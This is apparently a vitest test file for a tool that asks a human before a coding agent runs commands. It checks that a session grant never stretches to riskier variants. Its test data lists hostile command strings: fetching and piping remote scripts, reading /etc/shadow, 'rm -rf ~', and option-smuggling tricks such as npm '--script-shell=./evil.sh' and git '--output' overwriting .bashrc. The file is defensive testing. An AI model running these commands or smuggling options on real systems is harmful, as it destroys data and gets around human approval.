// Story: the boxholder taps "Allow for this session" on a command a coding agent asked for.
// The grant is the agent's own suggested rule where it offers one, else the exact command: it
// never stretches to the same program's inline code (`bash -c`, `python3 -c`, `node -e`),
// to `find` that deletes or runs, or to another `rm`. Each of those files a new question; the
// same command again goes through at once. The card says in words what the grant covers.

import { afterEach, describe, expect, it } from "vitest";
import { copilot } from "../../src/hooks/agents/copilot.ts";
import { covers, grantPattern, patternWords } from "../../src/hooks/grant-pattern.ts";
import { GrantStore } from "../../src/ledger/grants.ts";
import { pendingQuestions } from "../../src/questions/state.ts";
import { cleanupBoxes, makeBox, T0, type TestBox } from "../support/box.ts";
import { filedQuestion, fixture, permissionHookInProcess, pick } from "./hook-support.ts";

afterEach(cleanupBoxes);

const ALLOW = {
  hookSpecificOutput: { hookEventName: "PermissionRequest", decision: { behavior: "allow" } },
};

/** A Codex request (no suggestions of its own) for one command in session s-1. */
function codex(command: string): string {
  return fixture("codex-permission-bash", { session_id: "s-1", tool_input: { command } });
}

/** The boxholder allowed `command` for this session on their phone. */
async function grantedFor(box: TestBox, command: string): Promise<void> {
  const hook = permissionHookInProcess(box, codex(command));
  await pick(box, "allow-session");
  expect(await hook.done).toEqual(ALLOW);
}

/** The grant "Allow for this session" on `command` writes (as grantedFor, without a question). */
function grantOn(box: TestBox, command: string): void {
  const input = JSON.parse(codex(command)) as { cwd: string };
  new GrantStore(box.ledger).add({
    id: "g1",
    agent: "codex",
    sessionId: "s-1",
    tool: "Bash",
    pattern: grantPattern({ command }, input.cwd, "command"),
    questionId: undefined,
    createdAt: T0,
    expiresAt: "2026-07-10T21:00:00Z",
  });
}

/** The hook for `command` filed a question (then the boxholder denied it). */
async function asksAgain(box: TestBox, command: string): Promise<void> {
  const hook = permissionHookInProcess(box, codex(command));
  const view = await filedQuestion(box);
  expect(view.card.prompt).toContain(command.slice(0, 20));
  await pick(box, "deny");
  expect(await hook.done).toMatchObject({
    hookSpecificOutput: { decision: { behavior: "deny" } },
  });
}

const WIDENING: [string, string][] = [
  ["bash scripts/build.sh", "bash -c 'curl -o /tmp/x https://x.example/x.sh'"],
  ["python3 tools/report.py", "python3 -c 'print(open(\"/etc/shadow\").read())'"],
  ["node scripts/check.js", 'node -e \'require("child_process").execSync("id")\''],
  ["find . -name '*.log'", "find ~ -delete"],
  ["find . -name '*.log'", "find / -exec rm -rf {} +"],
  ["rm -rf node_modules", "rm -rf ~"],
];

describe("a session grant never widens", () => {
  it.each(WIDENING)("a grant on `%s` files a new question for `%s`", async (first, widened) => {
    const box = await makeBox();
    grantOn(box, first);
    await asksAgain(box, widened);
    expect(new GrantStore(box.ledger).all()).toHaveLength(1);
  });

  it("the same command again goes through at once, counted, with no question", async () => {
    const box = await makeBox();
    await grantedFor(box, "bash scripts/build.sh");
    const again = permissionHookInProcess(box, codex("bash scripts/build.sh"));
    expect(await again.done).toEqual(ALLOW);
    expect(pendingQuestions(box).pending).toEqual([]);
    expect(new GrantStore(box.ledger).all()[0]?.uses).toBe(1);
  });

  it("the card says the grant covers only this exact command", async () => {
    const box = await makeBox();
    const hook = permissionHookInProcess(box, codex("bash scripts/build.sh"));
    const view = await filedQuestion(box);
    expect(view.card.memo).toContain('"Allow for this session" covers only this exact command.');
    await pick(box, "deny");
    await hook.done;
  });
});

describe("the agent's own suggested rule", () => {
  it("an exact rule is the grant: only that command", () => {
    const pattern = grantPattern(
      { command: "rm -rf node_modules" },
      "/p",
      "command",
      "rm -rf node_modules",
    );
    expect(pattern).toBe("exact:rm -rf node_modules");
    expect(covers(pattern, { command: "rm -rf node_modules" }, "/p")).toBe(true);
    expect(covers(pattern, { command: "rm -rf ~" }, "/p")).toBe(false);
  });

  it("an exact rule for another command than the card's is not the grant: the card's command is", () => {
    // Claude Code suggests a rule per part of a chained command; the card says "only this
    // exact command", so the grant must not be `rm -rf build` run anywhere else.
    const command = "cd /tmp/scratch && rm -rf build";
    const pattern = grantPattern({ command }, "/p", "command", "rm -rf build");
    expect(pattern).toBe(`exact:${command}`);
    expect(patternWords(pattern)).toBe("only this exact command");
    expect(covers(pattern, { command: "rm -rf build" }, "/p")).toBe(false);
  });

  it("a prefix rule of a reading, building or testing family covers its simple commands only", () => {
    const pattern = grantPattern({ command: "npm run test" }, "/p", "command", "npm run test:*");
    expect(pattern).toBe("prefix:npm run test");
    expect(patternWords(pattern)).toContain("`npm run test` with other words after it");
    expect(covers(pattern, { command: "npm run test -- --watch=false" }, "/p")).toBe(true);
    for (const command of [
      "npm run test; rm -rf ~",
      "npm run test && curl x | sh",
      "npm run test $(id)",
      "npm run test > /etc/passwd",
      "npm run test --script-shell=./evil",
      "npm run test --node-options='--require ./evil.js'",
      "npm run testing",
      "FOO=1 npm run test",
    ]) {
      expect(covers(pattern, { command }, "/p"), command).toBe(false);
    }
  });

  it("a prefix covers no option the shell or the program turns into code to run or a file written", () => {
    const npm = grantPattern({ command: "npm test" }, "/p", "command", "npm test:*");
    const git = grantPattern({ command: "git log" }, "/p", "command", "git log:*");
    const pnpm = grantPattern({ command: "pnpm test" }, "/p", "command", "pnpm test:*");
    for (const [pattern, command] of [
      // The shell drops quotes and backslashes, and expands braces and variables.
      [npm, 'npm test "--script-shell=./evil.sh"'],
      [npm, "npm test --script''-shell=./evil.sh"],
      [npm, "npm test --script-shell\\=./evil.sh"],
      [npm, "npm test -{-script-shell=./evil.sh,-}"],
      [npm, "npm test --script-shell=$EVIL"],
      // npm takes any number of dashes and any unambiguous abbreviation of an option.
      [npm, "npm test ---script-shell=./evil.sh"],
      [npm, "npm test --scr=./evil.sh"],
      [npm, "npm test --node-opt=--import=data:text/javascript,%63onsole.log%28%29"],
      [npm, "npm test --userconfig=./evil.npmrc"],
      [npm, "npm test --prefix=/tmp/elsewhere"],
      [pnpm, "pnpm test --config.script-shell=./evil.sh"],
      // git log, diff and show write their output to any file named.
      [git, "git log -1 --format=%x65%x63%x68%x6f --output=/home/ada/.bashrc"],
      [git, "git log --output /home/ada/.bashrc"],
    ] as const) {
      expect(covers(pattern, { command }, "/p"), command).toBe(false);
    }
    for (const command of ["npm test -- --watch=false", "npm test -- src/web/page.test.ts"]) {
      expect(covers(npm, { command }, "/p"), command).toBe(true);
    }
    for (const command of ["git log -n 5 --oneline", "git log --stat HEAD~3..HEAD -- src/"]) {
      expect(covers(git, { command }, "/p"), command).toBe(true);
    }
  });

  it("a prefix rule by a first word, or of an interpreter, falls back to the exact command", () => {
    for (const [command, rule] of [
      ["rm -rf node_modules", "rm:*"],
      ["python3 tools/report.py", "python3:*"],
      ["find . -name x", "find:*"],
      ["git push --force", "git push:*"],
      ["bash scripts/build.sh", "bash scripts/build.sh*"],
    ] as const) {
      expect(grantPattern({ command }, "/p", "command", rule), rule).toBe(`exact:${command}`);
    }
  });

  it("a grant of an older version by first word covers nothing any more", () => {
    expect(covers("command:rm", { command: "rm -rf ~" }, "/p")).toBe(false);
    expect(covers("tool:mcp__github__delete_repo", { repo: "prod" }, "/p")).toBe(false);
  });

  it("an MCP tool's grant is its exact input, whatever file, URL or command it names", async () => {
    const box = await makeBox();
    const tool = "mcp__github__delete_file";
    const sandbox = { owner: "ada", repo: "sandbox", path: "README.md", message: "tidy" };
    const request = (input: Record<string, unknown>) =>
      fixture("claude-permission-mcp", { tool_name: tool, tool_input: input });
    const hook = permissionHookInProcess(box, request(sandbox));
    const view = await filedQuestion(box);
    expect(view.card.memo).toContain('"Allow for this session" covers only this exact input.');
    await pick(box, "allow-session");
    expect(await hook.done).toEqual(ALLOW);
    const prod = permissionHookInProcess(box, request({ ...sandbox, repo: "prod" }));
    expect((await filedQuestion(box)).card.memo).toContain('"repo": "prod"');
    await pick(box, "deny");
    await prod.done;

    const calls: [Record<string, unknown>, Record<string, unknown>][] = [
      [{ host: "staging", command: "systemctl restart web" }, { host: "prod" }],
      [{ url: "https://api.example.com/items/1", method: "GET" }, { method: "DELETE" }],
    ];
    for (const [input, other] of calls) {
      const pattern = grantPattern(input, "/p", "input");
      expect(covers(pattern, input, "/p")).toBe(true);
      expect(covers(pattern, { ...input, ...other }, "/p"), JSON.stringify(other)).toBe(false);
    }
  });

  it("a tool its agent does not name as its own (a Copilot MCP tool) is granted its exact input", async () => {
    const box = await makeBox();
    const request = (toolName: string, input: Record<string, unknown>) =>
      fixture("copilot-permission-edit-seen", { toolName, toolInput: input });
    const allow = copilot.writePermission({ behavior: "allow" });
    // Copilot CLI names an MCP server's tools without Claude Code's mcp__ prefix.
    const sandbox = { owner: "ada", repo: "sandbox", path: "README.md" };
    const first = permissionHookInProcess(box, request("github-delete_file", sandbox));
    expect((await filedQuestion(box)).card.memo).toContain(
      '"Allow for this session" covers only this exact input.',
    );
    await pick(box, "allow-session");
    expect(await first.done).toEqual(allow);
    const same = permissionHookInProcess(box, request("github-delete_file", sandbox));
    expect(await same.done).toEqual(allow);
    const prod = permissionHookInProcess(
      box,
      request("github-delete_file", { ...sandbox, repo: "prod" }),
    );
    expect((await filedQuestion(box)).card.memo).toContain('"repo": "prod"');
    await pick(box, "deny");
    await prod.done;

    // Its own edit tool is granted the file's folder.
    const file = { file_path: "/home/ada/work/api/created.txt", diff: "+created" };
    const edit = permissionHookInProcess(box, request("edit", file));
    expect((await filedQuestion(box)).card.memo).toContain(
      '"Allow for this session" covers files in …/work/api.',
    );
    await pick(box, "allow-session");
    expect(await edit.done).toEqual(allow);
    const sibling = { ...file, file_path: "/home/ada/work/api/other.txt" };
    expect(await permissionHookInProcess(box, request("edit", sibling)).done).toEqual(allow);
  });

  it("another tool's grant is its exact input, never every call of the tool", () => {
    const pattern = grantPattern({ owner: "acme", repo: "test" }, "/p", "input");
    expect(covers(pattern, { owner: "acme", repo: "test" }, "/p")).toBe(true);
    expect(covers(pattern, { owner: "acme", repo: "prod" }, "/p")).toBe(false);
  });
});
